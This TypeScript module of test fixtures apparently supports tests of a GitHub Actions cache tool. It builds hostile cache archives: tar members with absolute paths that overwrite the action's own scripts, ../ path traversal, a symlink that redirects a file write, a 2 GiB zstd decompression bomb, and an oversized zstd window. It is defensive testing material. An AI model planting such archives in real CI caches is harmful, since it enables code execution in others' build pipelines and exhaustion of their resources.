// Stands in for: the archives a cache entry can hold: the one @actions/cache's saveCache writes for a single file, and the hostile ones that anyone who can save a cache entry can plant.
// Built without the system tar (tar-builder.ts), compressed with Node's zlib
// gzip or stored in hand-made zstd frames (zstd-frames.ts). The hostile ones
// reproduce issue 15: members that `tar -xf -P` writes outside the extraction
// directory, a decompression bomb under the real member's name, and a zstd
// frame that asks for more memory than a bounded reader grants. Plant one as
// the newest entry of a key prefix with CacheService.plant.

import path from 'node:path';
import { gzipSync } from 'node:zlib';
import { MTIME, padding, paxHeaderName, tarArchive, tarHeader } from './tar-builder.js';
import { rawBlocks, rleBlocks, zstdFrame } from './zstd-frames.js';

export type Compression = 'gzip' | 'zstd';

/** The size a zstd bomb declares by default. */
export const TWO_GIB = 2 ** 31;
/** The window log of bigWindowArchive by default: 128 MiB, over the 8 MiB (log 23) a bounded reader allows. */
export const BIG_WINDOW_LOG = 27;

/** The member name saveCache gives a file: its path relative to GITHUB_WORKSPACE, '/'-separated (resolvePaths). */
export function memberName(file: string, workspace: string): string {
  return path.relative(workspace, file).split(path.sep).join('/');
}

/** A tar compressed with Node's zlib gzip, or stored in a zstd frame of raw blocks. */
export function compress(tar: Buffer, compression: Compression): Buffer {
  return compression === 'gzip' ? gzipSync(tar) : zstdFrame(rawBlocks(tar));
}

/** One regular file as saveCache's `tar --posix` writes it: a pax header (mtime, atime, ctime), then the file. */
export function plainArchive(name: string, contents: Buffer | string, compression: Compression = 'gzip'): Buffer {
  return compress(plainTar(name, contents), compression);
}

/** A file member under an absolute path, which `tar -xf -P` writes there (the action's own dist/post.js, say). */
export function absolutePathArchive(
  file: string,
  contents: Buffer | string,
  compression: Compression = 'gzip',
): Buffer {
  if (!path.posix.isAbsolute(file)) throw new Error(`not an absolute path: ${file}`);
  return compress(tarArchive([{ type: 'file', name: file, contents }]), compression);
}

/** A file member whose name climbs out of the extraction directory with `../`. */
export function dotDotArchive(name: string, contents: Buffer | string, compression: Compression = 'gzip'): Buffer {
  if (!name.split('/').includes('..')) throw new Error(`no ../ in ${name}`);
  return compress(tarArchive([{ type: 'file', name, contents }]), compression);
}

/** A symlink member `link` to `directory`, then a file member `<link>/<file>`: extracted, the file lands in `directory`. */
export function symlinkThroughArchive(
  link: string,
  directory: string,
  file: string,
  contents: Buffer | string,
  compression: Compression = 'gzip',
): Buffer {
  return compress(
    tarArchive([
      { type: 'symlink', name: link, target: directory },
      { type: 'file', name: `${link}/${file}`, contents },
    ]),
    compression,
  );
}

/**
 * A zstd bomb: a tar header naming `name` (the real value file's member name) and declaring `size` bytes
 * (2 GiB by default), then that many zeros and the end of the archive as RLE blocks. About 64 KiB for
 * 2 GiB; the zeros are never in memory here.
 */
export function zstdBomb(name: string, size = TWO_GIB): Buffer {
  const header = tarHeader({ name, typeflag: '0', size });
  return zstdFrame([{ type: 'raw', data: header }, ...rleBlocks(0, size + padding(size) + 1024)]);
}

/** The plain archive of one member, in a zstd frame whose header asks for a window of 2^windowLog bytes. */
export function bigWindowArchive(name: string, contents: Buffer | string, windowLog = BIG_WINDOW_LOG): Buffer {
  return zstdFrame(rawBlocks(plainTar(name, contents)), windowLog);
}

function plainTar(name: string, contents: Buffer | string): Buffer {
  const time = String(MTIME);
  return tarArchive([
    { type: 'pax', name: paxHeaderName(name), records: { mtime: time, atime: time, ctime: time } },
    { type: 'file', name, contents },
  ]);
}
